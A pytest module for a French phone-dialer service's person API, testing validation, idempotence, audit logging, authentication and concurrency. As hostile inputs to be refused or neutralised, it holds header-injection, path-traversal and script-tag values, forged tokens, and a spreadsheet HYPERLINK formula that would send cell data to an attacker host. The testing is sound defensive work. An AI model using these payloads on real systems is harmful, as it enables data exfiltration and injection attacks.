"""Issue 17, « One person at a time »: ``PUT`` and ``DELETE /api/v1/people/{external_id}``
through the HTTP application, on SQLite and PostgreSQL: the importer's rules and error
shapes, idempotence, the audit log, who may, abuse (huge bodies, hostile text, odd ids,
forged tokens, concurrent requests), and a person added during a cycle is called in the
next one (the service's own cycle keeper)."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from sqlalchemy import func, select

from dialer.core.phones import PhoneKind
from dialer.storage import (
    CycleRepository,
    SessionFactory,
    create_engine,
    create_session_factory,
    migrate_engine,
)
from dialer.storage.database import transaction
from dialer.storage.models import Person
from tests.storage.conftest import postgres_url, reset_postgres, sqlite_url
from tests.stored import person_by_external_id
from tests.web.conftest import log_in
from tests.web.steering_support import SteerRig, steer
from tests.web.test_episodes import EpisodeRig, members_of, rig

pytestmark = pytest.mark.asyncio
__all__ = ["rig", "steer"]  # fixtures used by name

FORM: dict[str, Any] = {
    "last_name": "Lemoine",
    "first_name": "Odette",
    "birth_date": "14/03/1941",
    "address": "3 rue des Acacias",
    "postcode": "7519",  # a spreadsheet's lost zero: the import's rule puts it back
    "city": "Paris",
    "district": "Nord",
    "phones": ["01 45 67 89 11", "06.12.34.56.79"],
    "contact_name": "Luc Lemoine (fils)",
    "contact_phone": "0612345680",
    "disability": "oui",
    "medical": "non",
}
ONE = "/api/v1/people/INSCR-2026-0001"


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def database_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    return sqlite_url(tmp_path) if request.param == "sqlite" else postgres_url()


@pytest_asyncio.fixture
async def sessions(database_url: str) -> AsyncIterator[SessionFactory]:
    if database_url.startswith("postgresql"):
        await reset_postgres(database_url)
    engine = create_engine(database_url)
    await migrate_engine(engine)
    yield create_session_factory(engine)
    await engine.dispose()


async def people_count(sessions: SessionFactory, external_id: str) -> int:
    async with transaction(sessions) as session:
        found = await session.scalar(
            select(func.count()).select_from(Person).where(Person.external_id == external_id)
        )
        return int(found or 0)


async def test_a_sign_up_is_stored_as_an_import_stores_it_and_the_same_put_changes_nothing(
    steer: SteerRig,
) -> None:
    auth = steer.auth("superviseur")
    added = await steer.http.put(ONE, json=FORM, headers=auth)
    assert added.status_code == 201, added.text
    body = added.json()
    assert (body["external_id"], body["change"]) == ("INSCR-2026-0001", "created")
    assert "phones" in body["fields"]
    stored = await person_by_external_id(steer.sessions, "INSCR-2026-0001")
    assert stored is not None
    assert stored.id == body["id"]
    assert (stored.last_name, stored.birth_date, stored.postcode) == (
        "Lemoine",
        date(1941, 3, 14),
        "07519",
    )
    assert [(p.e164, p.kind) for p in stored.phones] == [
        ("+33145678911", PhoneKind.LANDLINE),
        ("+33612345679", PhoneKind.MOBILE),
    ]
    assert (stored.contact_phone, stored.disabled, stored.medical_flag) == (
        "+33612345680",
        True,
        False,
    )
    assert stored.removed_at is None

    again = await steer.http.put(ONE, json=FORM, headers=auth)
    assert again.status_code == 200, again.text
    assert (again.json()["change"], again.json()["fields"], again.json()["id"]) == (
        "unchanged",
        [],
        body["id"],
    )
    [entry] = await steer.audit("person.")
    assert (entry.action, entry.actor, entry.target, entry.person_id) == (
        "person.add",
        "api:jeton-superviseur",
        f"person:{body['id']}",
        body["id"],
    )
    assert entry.route == "PUT " + ONE
    assert "Lemoine" not in str(entry.details)  # the fields, never their values

    # the importer sees the person the API wrote as its own: unchanged on a re-import
    register = "Identifiant;Nom;Prénom;Date de naissance;Adresse;CP;Ville;Arrondissement;"
    register += "Téléphone;Portable;Personne à prévenir;Téléphone contact;"
    register += "handicap;situation médicale\n"
    register += "INSCR-2026-0001;Lemoine;Odette;14/03/1941;3 rue des Acacias;7519;Paris;Nord;"
    register += "01 45 67 89 11;06.12.34.56.79;Luc Lemoine (fils);0612345680;oui;non\n"
    simulated = await steer.http.post(
        "/api/v1/registers/import",
        files={"file": ("registre.csv", register.encode())},
        data={"dry_run": "true"},
        headers=auth,
    )
    assert simulated.status_code == 200, simulated.text
    assert (simulated.json()["unchanged"], simulated.json()["changed"]) == (1, 0)

    changed = {**FORM, "city": "Lyon", "phones": ["06 12 34 56 79"], "medical": None}
    updated = await steer.http.put(ONE, json=changed, headers=auth)
    assert updated.status_code == 200, updated.text
    assert updated.json()["change"] == "updated"
    assert updated.json()["fields"] == ["city", "register_flags", "phones"]
    stored = await person_by_external_id(steer.sessions, "INSCR-2026-0001")
    assert stored is not None
    assert (stored.city, [p.e164 for p in stored.phones]) == ("Lyon", ["+33612345679"])
    actions = [(e.action, e.details) for e in await steer.audit("person.")]
    assert actions[0] == ("person.update", {"fields": ["city", "register_flags", "phones"]})
    assert await people_count(steer.sessions, "INSCR-2026-0001") == 1


async def test_a_withdrawal_keeps_the_person_and_a_second_delete_answers_the_same(
    steer: SteerRig,
) -> None:
    auth = steer.auth("admin")
    assert (await steer.http.put(ONE, json=FORM, headers=auth)).status_code == 201
    steer.clock.advance(minutes=5)
    withdrawn_at = steer.clock()
    first = await steer.http.delete(ONE, headers=auth)
    assert first.status_code == 200, first.text
    assert first.json()["changed"] is True
    steer.clock.advance(minutes=5)
    second = await steer.http.delete(ONE, headers=auth)
    assert second.status_code == 200, second.text
    assert second.json()["changed"] is False
    assert first.json()["withdrawn_at"] == second.json()["withdrawn_at"]
    stored = await person_by_external_id(steer.sessions, "INSCR-2026-0001")
    assert stored is not None  # history kept: the row and its numbers stay
    assert stored.removed_at == withdrawn_at
    assert len(stored.phones) == 2
    assert [e.action for e in await steer.audit("person.")] == ["person.withdraw", "person.add"]

    unknown = await steer.http.delete("/api/v1/people/JAMAIS-VU", headers=auth)
    assert unknown.status_code == 404
    assert "JAMAIS-VU" in unknown.json()["erreur"]

    back = await steer.http.put(ONE, json=FORM, headers=auth)
    assert back.status_code == 200, back.text
    assert (back.json()["change"], back.json()["fields"]) == ("restored", [])
    stored = await person_by_external_id(steer.sessions, "INSCR-2026-0001")
    assert stored is not None
    assert stored.removed_at is None
    assert (await steer.audit("person."))[0].action == "person.restore"
    # a person of the register (imported, not signed up) is withdrawn the same way
    assert (await steer.http.delete("/api/v1/people/B2", headers=auth)).status_code == 200


async def shared_flags(sessions: SessionFactory, *external_ids: str) -> list[bool]:
    flags = []
    for external_id in external_ids:
        person = await person_by_external_id(sessions, external_id)
        assert person is not None
        flags += [phone.shared_with_other_person for phone in person.phones]
    return flags


async def test_a_number_another_person_has_is_flagged_shared_while_both_are_on_the_register(
    steer: SteerRig,
) -> None:
    auth = steer.auth("superviseur")
    jeanne_number = "01 45 67 89 10"  # the seeded J1's only number: a couple's line
    couple = {**FORM, "phones": [jeanne_number, "06 12 34 56 79"]}
    assert (await steer.http.put(ONE, json=couple, headers=auth)).status_code == 201
    assert await shared_flags(steer.sessions, "J1", "INSCR-2026-0001") == [True, True, False]
    assert (await steer.http.delete(ONE, headers=auth)).status_code == 200
    assert await shared_flags(steer.sessions, "J1") == [False]  # the only one left on it
    assert (await steer.http.put(ONE, json=couple, headers=auth)).status_code == 200
    assert await shared_flags(steer.sessions, "J1", "INSCR-2026-0001") == [True, True, False]
    assert (await steer.http.put(ONE, json=FORM, headers=auth)).status_code == 200
    assert await shared_flags(steer.sessions, "J1", "INSCR-2026-0001") == [False, False, False]


BAD_FORMS: list[tuple[dict[str, Any], str, str]] = [
    ({}, "last_name", "obligatoire"),
    ({**FORM, "last_name": ""}, "last_name", "nom manquant"),
    ({**FORM, "last_name": "   "}, "last_name", "nom manquant"),
    ({**FORM, "phones": []}, "phones", ""),
    ({**FORM, "phones": ["12"]}, "phones.0", "trop court"),
    ({**FORM, "phones": ["0145678911", "0800"]}, "phones.1", ""),
    ({**FORM, "phones": ["0145678911"] * 11}, "phones", "10"),
    ({**FORM, "phones": "0145678911"}, "phones", "liste"),
    ({**FORM, "birth_date": "31/02/1941"}, "birth_date", "date invalide"),
    ({**FORM, "birth_date": "14/03/2099"}, "birth_date", "date invalide"),
    ({**FORM, "contact_phone": "pas un numéro"}, "contact_phone", ""),
    ({**FORM, "last_name": "L" * 201}, "last_name", "200"),
    ({**FORM, "last_name": 12}, "last_name", "chaîne"),
    ({**FORM, "last_name": "Lemoine\x00"}, "last_name", "contrôle"),
    ({**FORM, "city": "Paris\r\nX-Injected: 1"}, "city", "contrôle"),
    ({**FORM, "first_name": "\u202eenileO"}, "first_name", "contrôle"),
    ({**FORM, "phones": ["01 45\t67 89 11\n"]}, "phones.0", "contrôle"),
    ({**FORM, "external_id": "AUTRE"}, "external_id", "inconnu"),
    ({**FORM, "removed_at": None}, "removed_at", "inconnu"),
]


async def test_a_bad_form_is_refused_with_the_field_named_and_nothing_written(
    steer: SteerRig,
) -> None:
    auth = steer.auth("superviseur")
    for form, field, reason in BAD_FORMS:
        response = await steer.http.put(ONE, json=form, headers=auth)
        assert response.status_code == 422, (form, response.text)
        message = response.json()["erreur"]
        assert f"« {field} »" in message, (form, message)
        assert reason in message, (form, message)
    not_json = await steer.http.put(ONE, content=b"{nom: Lemoine", headers=auth)
    assert (not_json.status_code, not_json.json()["erreur"]) == (
        422,
        "Corps de la requête : JSON invalide.",
    )
    deep = await steer.http.put(ONE, content=b"[" * 100 + b"]" * 100, headers=auth)
    assert deep.status_code == 422
    assert await person_by_external_id(steer.sessions, "INSCR-2026-0001") is None
    assert await steer.audit("person.") == []


async def test_huge_bodies_are_refused_before_anything_is_written(steer: SteerRig) -> None:
    auth = steer.auth("superviseur")
    padded = {**FORM, "address": "x" * 100_000}
    response = await steer.http.put(ONE, json=padded, headers=auth)
    assert response.status_code == 422
    assert response.json()["erreur"].startswith("Corps de la requête : 65536 octets au plus")
    huge = await steer.http.put(ONE, content=b" " * 2_000_000, headers=auth)
    assert huge.status_code == 413
    assert await person_by_external_id(steer.sessions, "INSCR-2026-0001") is None


async def test_odd_ids_in_the_path_are_refused(steer: SteerRig) -> None:
    auth = steer.auth("superviseur")
    refused = [
        "a%20b",  # a space
        "%2E%2E",
        "a..b",
        ".cache",
        "auto:0123456789abcdef",  # the importer's derived keys
        f"efface:{steer.world.jeanne_id}",  # an erased person's
        "x" * 101,
        "a%00b",
        "a%0Ab",
        "%C3%A9t%C3%A9",  # not ASCII
        "a%5Cb",  # a backslash
        "%3Cscript%3E",
    ]
    for odd in refused:
        for method in ("PUT", "DELETE"):
            response = await steer.http.request(
                method, "/api/v1/people/" + odd, json=FORM, headers=auth
            )
            assert response.status_code == 422, (method, odd, response.text)
            assert "« external_id »" in response.json()["erreur"], (odd, response.text)
    for elsewhere in ("a%2Fb", "a/b", "..", "../../tokens"):  # a slash: another route, or none
        response = await steer.http.put("/api/v1/people/" + elsewhere, json=FORM, headers=auth)
        assert response.status_code in (404, 405), (elsewhere, response.text)
    async with transaction(steer.sessions) as session:
        assert await session.scalar(select(func.count()).select_from(Person)) == 2
    assert await steer.audit("person.") == []


async def test_only_who_may_import_the_register_may_put_or_withdraw(steer: SteerRig) -> None:
    for headers in (
        {},
        {"Authorization": "Bearer jeton-forge"},
        {"Authorization": "Bearer " + steer.tokens["admin"][:-2] + "xx"},
        {"Authorization": "Basic " + steer.tokens["admin"]},
        {"Authorization": "Bearer "},
    ):
        for method in ("PUT", "DELETE"):
            response = await steer.http.request(method, ONE, json=FORM, headers=headers)
            assert response.status_code == 401, (method, headers, response.text)
    for method in ("PUT", "DELETE"):
        agent = await steer.http.request(method, ONE, json=FORM, headers=steer.auth("agent1"))
        assert agent.status_code == 403
    # a browser session needs its CSRF token to change anything
    csrf = await log_in(steer.http, "superviseur")
    no_csrf = await steer.http.put(ONE, json=FORM)
    assert no_csrf.status_code == 403
    with_csrf = await steer.http.put(ONE, json=FORM, headers={"X-CSRF-Token": csrf})
    assert with_csrf.status_code == 201, with_csrf.text
    [entry] = await steer.audit("person.")
    assert entry.actor == "superviseur"


async def test_concurrent_puts_of_one_id_give_one_person(steer: SteerRig) -> None:
    auth = steer.auth("superviseur")
    same = await asyncio.gather(*(steer.http.put(ONE, json=FORM, headers=auth) for _ in range(8)))
    assert sorted(r.status_code for r in same) == [200] * 7 + [201], [r.text for r in same]
    assert {r.json()["change"] for r in same} == {"created", "unchanged"}
    assert len({r.json()["id"] for r in same}) == 1
    assert await people_count(steer.sessions, "INSCR-2026-0001") == 1
    assert [e.action for e in await steer.audit("person.")] == ["person.add"]

    names = [f"Odette {n}" for n in range(6)]
    different = await asyncio.gather(
        *(steer.http.put(ONE, json={**FORM, "first_name": n}, headers=auth) for n in names)
    )
    assert {r.status_code for r in different} == {200}, [r.text for r in different]
    assert {r.json()["change"] for r in different} == {"updated"}
    assert await people_count(steer.sessions, "INSCR-2026-0001") == 1
    stored = await person_by_external_id(steer.sessions, "INSCR-2026-0001")
    assert stored is not None
    assert stored.first_name in names
    assert len(stored.phones) == 2  # one request's numbers, never two requests' mixed
    assert len(await steer.audit("person.update")) == 6

    # a new id, put and withdrawn at once: one person, whichever came first
    racing = await asyncio.gather(
        steer.http.put("/api/v1/people/COURSE-1", json=FORM, headers=auth),
        steer.http.delete("/api/v1/people/COURSE-1", headers=auth),
        steer.http.put("/api/v1/people/COURSE-1", json=FORM, headers=auth),
    )
    assert all(r.status_code in (200, 201, 404) for r in racing), [r.text for r in racing]
    assert await people_count(steer.sessions, "COURSE-1") == 1


async def test_a_person_put_during_a_cycle_is_called_in_the_next_one(rig: EpisodeRig) -> None:
    started = await rig.http.post(
        "/api/v1/episodes", json={"kind": "heatwave", "level": 3}, headers=rig.auth()
    )
    assert started.status_code == 201, started.text
    campaign_id = started.json()["campaign"]["id"]
    cycles = CycleRepository(rig.sessions)
    [first] = await cycles.list_for(campaign_id)
    at_start = await members_of(rig.sessions, first.id)
    assert at_start == {"J1", "B2"}
    await rig.episodes.start_keeping()  # the service's loop, as ``dialer serve`` starts it
    await rig.clock.wait_for_sleepers()
    rig.clock.advance(minutes=10)
    await rig.clock.wait_for_sleepers()
    # during the first cycle: one person signs up (a name a spreadsheet would run), one
    # withdraws
    hostile = '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")'
    form = {**FORM, "last_name": hostile, "district": None}
    added = await rig.http.put("/api/v1/people/INSCR-9", json=form, headers=rig.auth())
    assert added.status_code == 201, added.text
    withdrawn = await rig.http.delete("/api/v1/people/B2", headers=rig.auth())
    assert withdrawn.status_code == 200, withdrawn.text
    # the running cycle keeps the register it opened with
    assert await members_of(rig.sessions, first.id) == at_start
    rig.clock.advance(minutes=50, seconds=5)  # the first cycle's deadline
    await rig.clock.wait_for_sleepers()
    _, second = await cycles.list_for(campaign_id)
    assert await members_of(rig.sessions, second.id) == {"J1", "INSCR-9"}
    assert rig.control.current is not None
    assert rig.control.current.cycle_id == second.id  # the engine dials the new cycle
    stored = await person_by_external_id(rig.sessions, "INSCR-9")
    assert stored is not None
    assert stored.last_name == hostile  # kept as given: it is text

    # nobody could call them (no agent): the never-reached table's CSV holds no formula
    rig.clock.advance(minutes=60, seconds=5)
    await rig.clock.wait_for_sleepers()
    await log_in(rig.http, "superviseur")
    table = await rig.http.get(f"/rapports/{campaign_id}/tableaux/jamais_joints.csv")
    assert table.status_code == 200, table.text
    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig")), delimiter=";"))
    header, *lines = rows
    names = [line[header.index("Nom")] for line in lines]
    assert "'" + hostile in names
    assert hostile not in names
